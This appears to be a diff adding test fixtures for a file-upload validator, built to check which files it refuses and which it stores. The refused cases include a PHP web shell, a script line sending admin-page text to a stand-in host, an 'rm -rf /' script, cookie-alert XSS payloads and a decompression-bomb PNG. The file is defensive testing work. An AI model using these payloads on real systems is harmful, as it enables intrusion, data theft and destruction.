@@ -1,0 +1,236 @@
+"""Hostile and awkward uploads, each built here from nothing, with what must happen to it.
+
+`accepted` is the extension the stored file must get, or None when the upload must be
+refused; `settings` are overrides a case needs (the size caps).
+"""
+
+import io
+import struct
+import zipfile
+import zlib
+from dataclasses import dataclass, field
+
+from PIL import Image
+
+HTML = b"<!DOCTYPE html><html><body><script src='/media/resources/page.js'></script></body></html>"
+SCRIPT = b"fetch('/admin/').then(r => r.text()).then(t => { new Image().src = '//x/?' + t })"
+MINIMAL_PDF = (
+    b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
+    b"2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
+    b"trailer <</Root 1 0 R>>\n%%EOF\n"
+)
+
+
+@dataclass
+class Case:
+    id: str
+    filename: str
+    build: object  # () -> bytes
+    accepted: str | None
+    settings: dict = field(default_factory=dict)
+
+    def data(self):
+        return self.build()
+
+
+def image(fmt, size=(40, 30), mode="RGB", color=(200, 30, 30), **save):
+    out = io.BytesIO()
+    Image.new(mode, size, color).save(out, fmt, **save)
+    return out.getvalue()
+
+
+def jpeg_with_gps():
+    """A photo as phones write it: GPS position, a comment, and 'rotate 90°' in EXIF."""
+    exif = Image.Exif()
+    exif[0x0112] = 6
+    exif.get_ifd(0x8825).update({1: "N", 2: (50.0, 49.0, 30.0), 3: "W", 4: (0.0, 8.0, 10.0)})
+    return image("JPEG", size=(64, 48), exif=exif, comment=b"taken at home")
+
+
+def bomb_png(width=100_000, height=100_000):
+    """A PNG of a few dozen bytes whose header claims width x height pixels."""
+
+    def chunk(kind, body):
+        return (
+            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+        )
+
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", ihdr)
+        + chunk(b"IDAT", zlib.compress(b""))
+        + chunk(b"IEND", b"")
+    )
+
+
+def zip_of(members, first=None):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        if first:
+            archive.writestr(zipfile.ZipInfo(first[0]), first[1])  # stored, as ODF requires
+        for name, body in members.items():
+            archive.writestr(name, body)
+    return out.getvalue()
+
+
+CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
+
+
+def ooxml(main_part, extra=None):
+    return zip_of(
+        {
+            "[Content_Types].xml": CONTENT_TYPES,
+            "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
+            main_part: b'<?xml version="1.0"?><document/>',
+            **(extra or {}),
+        }
+    )
+
+
+def odf(kind):
+    return zip_of(
+        {"content.xml": b'<?xml version="1.0"?><office:document-content/>'},
+        first=("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode()),
+    )
+
+
+def ole2(stream_name, size=4096):
+    """A minimal OLE2 compound file (version 3, 512-byte sectors) holding one stream."""
+    free, end, fat_sector, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
+    data_sectors = size // 512
+    header = b"".join(
+        [
+            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
+            b"\0" * 16,
+            struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6),
+            b"\0" * 6,
+            struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0),
+            struct.pack("<I", 0) + struct.pack("<I", free) * 108,
+        ]
+    )
+    fat = [fat_sector, end] + [3 + i for i in range(data_sectors - 1)] + [end]
+    fat_bytes = b"".join(struct.pack("<I", v) for v in fat) + struct.pack("<I", free) * (
+        128 - len(fat)
+    )
+
+    def entry(name, kind, child, start, length):
+        encoded = (name + "\0").encode("utf-16-le")
+        return (
+            encoded.ljust(64, b"\0")
+            + struct.pack("<HBB", len(encoded), kind, 1)
+            + struct.pack("<III", no_stream, no_stream, child)
+            + b"\0" * 36
+            + struct.pack("<II", start, length)
+            + b"\0" * 4
+        )
+
+    empty = (
+        b"\0" * 64
+        + struct.pack("<HBB", 0, 0, 0)
+        + struct.pack("<III", no_stream, no_stream, no_stream)
+        + b"\0" * 48
+    )
+    directory = (
+        entry("Root Entry", 5, 1, end, 0) + entry(stream_name, 2, no_stream, 2, size) + empty * 2
+    )
+    return header + fat_bytes + directory + b"\x01" * size
+
+
+def noisy_png():
+    out = io.BytesIO()
+    Image.effect_noise((200, 200), 64).save(out, "PNG")
+    return out.getvalue()
+
+
+def gif_with_html():
+    return image("GIF", mode="P", color=1) + b"<html><script>alert(document.cookie)</script></html>"
+
+
+def jpeg_with_html():
+    return image("JPEG") + b"<html><script>alert(document.cookie)</script></html>"
+
+
+def truncated_jpeg():
+    return image("JPEG", size=(400, 300))[:300]
+
+
+SMALL_DOCUMENT_CAP = {"FLSE_UPLOAD_MAX_BYTES": 1000}
+SMALL_IMAGE_CAP = {"FLSE_IMAGE_MAX_BYTES": 1000}
+
+CASES = [
+    # Markup and script, under their own names and under trusted ones.
+    Case("html", "page.html", lambda: HTML, None),
+    Case("javascript", "page.js", lambda: SCRIPT, None),
+    Case("svg-with-script", "logo.svg",
+         lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', None),
+    Case("svg-renamed-png", "logo.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', None),
+    Case("xhtml", "page.xhtml",
+         lambda: b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
+         None),
+    Case("xml", "data.xml", lambda: b'<?xml version="1.0"?><data/>', None),
+    Case("html-renamed-pdf", "report.pdf", lambda: HTML, None),
+    Case("html-renamed-jpg", "photo.jpg", lambda: HTML, None),
+    Case("html-renamed-docx", "report.docx", lambda: HTML, None),
+    Case("html-renamed-csv", "data.csv", lambda: b"name,town\n<img src=x onerror=alert(1)>,Hove\n",
+         None),
+    Case("html-with-bom-and-space", "notes.txt", lambda: b"\xef\xbb\xbf \n\t<html><body>hi", None),
+    Case("php", "shell.php", lambda: b"<?php system($_GET['c']); ?>", None),
+    Case("php-renamed-jpg", "shell.jpg", lambda: b"<?php system($_GET['c']); ?>", None),
+    Case("shell-script", "run.txt", lambda: b"#!/bin/sh\nrm -rf /\n", None),
+    # Executables and archives.
+    Case("windows-exe", "setup.exe", lambda: b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120, None),
+    Case("elf", "tool.pdf", lambda: b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120, None),
+    Case("plain-zip", "bundle.zip", lambda: zip_of({"readme.txt": b"hello"}), None),
+    Case("zip-renamed-docx", "report.docx", lambda: zip_of({"word/document.xml": b"<w/>"}), None),
+    Case("content-types-without-main-part", "report.docx",
+         lambda: zip_of({"[Content_Types].xml": CONTENT_TYPES, "page.html": HTML}), None),
+    Case("macro-docm", "report.docx",
+         lambda: ooxml("word/document.xml", {"word/vbaProject.bin": b"\x00macro"}), None),
+    Case("ole2-not-office", "installer.msi", lambda: ole2("SummaryInformation"), None),
+    Case("corrupt-zip", "report.docx", lambda: b"PK\x03\x04" + b"\x00" * 40, None),
+    # Images that must not be decoded or cannot be.
+    Case("decompression-bomb-png", "bomb.png", bomb_png, None),
+    Case("bomb-over-our-cap-only", "big.png", lambda: bomb_png(8000, 6000), None),
+    Case("truncated-jpeg", "cut.jpg", truncated_jpeg, None),
+    # Sizes and encodings.
+    Case("empty", "empty.pdf", lambda: b"", None),
+    Case("oversize-document", "big.pdf", lambda: MINIMAL_PDF + b"%" * 2000, None,
+         SMALL_DOCUMENT_CAP),
+    Case("oversize-image", "big.png", lambda: noisy_png(), None, SMALL_IMAGE_CAP),
+    Case("oversize-text-read-no-further", "notes.txt", lambda: b"word " * 1000, None,
+         {**SMALL_DOCUMENT_CAP, **SMALL_IMAGE_CAP}),
+    Case("latin-1-text", "notes.txt", lambda: "Café in Hove".encode("latin-1"), None),
+    Case("utf-16-text", "notes.txt", lambda: "Café".encode("utf-16"), None),
+    Case("whitespace-only", "notes.txt", lambda: b" \n\n ", None),
+    # Accepted: what staff really upload, whatever the name says.
+    Case("pdf", "report.pdf", lambda: MINIMAL_PDF, "pdf"),
+    Case("pdf-renamed-html", "report.html", lambda: MINIMAL_PDF, "pdf"),
+    Case("docx", "report.docx", lambda: ooxml("word/document.xml"), "docx"),
+    Case("xlsx", "figures.xlsx", lambda: ooxml("xl/workbook.xml"), "xlsx"),
+    Case("pptx", "slides.pptx", lambda: ooxml("ppt/presentation.xml"), "pptx"),
+    Case("docx-named-zip", "report.zip", lambda: ooxml("word/document.xml"), "docx"),
+    Case("odt", "report.odt", lambda: odf("text"), "odt"),
+    Case("ods", "figures.ods", lambda: odf("spreadsheet"), "ods"),
+    Case("legacy-doc", "report.doc", lambda: ole2("WordDocument"), "doc"),
+    Case("legacy-xls", "figures.xls", lambda: ole2("Workbook"), "xls"),
+    Case("legacy-ppt", "slides.ppt", lambda: ole2("PowerPoint Document"), "ppt"),
+    Case("csv-utf8", "people.csv", lambda: "name,town\nZoë,Hove\nSiân,Lewes\n".encode(), "csv"),
+    Case("csv-semicolons-bom", "figures.csv", lambda: b"\xef\xbb\xbfyear;count\n2024;3\n2025;5\n",
+         "csv"),
+    Case("text-utf8", "notes.txt",
+         lambda: "Notes from the peer mentoring day – 3 < 5, and that’s fine.\n".encode(), "txt"),
+    Case("prose-with-code-like-words", "minutes.txt",
+         lambda: b"We looked out of the window. Then: fetch (and carry) the function (of "
+                 b"the team); caseloads < 5 a week, and window.\n", "txt"),
+    Case("jpeg-with-gps", "IMG_0001.JPG", jpeg_with_gps, "jpg"),
+    Case("png-with-alpha", "logo.png", lambda: image("PNG", mode="RGBA", color=(0, 0, 0, 0)),
+         "png"),
+    Case("webp", "photo.webp", lambda: image("WEBP"), "webp"),
+    Case("gif", "chart.gif", lambda: image("GIF", mode="P", color=1), "gif"),
+    Case("polyglot-gif-html", "page.gif", gif_with_html, "gif"),
+    Case("polyglot-jpeg-html", "page.html", jpeg_with_html, "jpg"),
+    Case("png-named-jpg", "photo.jpg", lambda: image("PNG"), "png"),
+]  # fmt: skip
+
+IMAGE_EXTENSIONS = {"jpg", "png", "webp", "gif"}
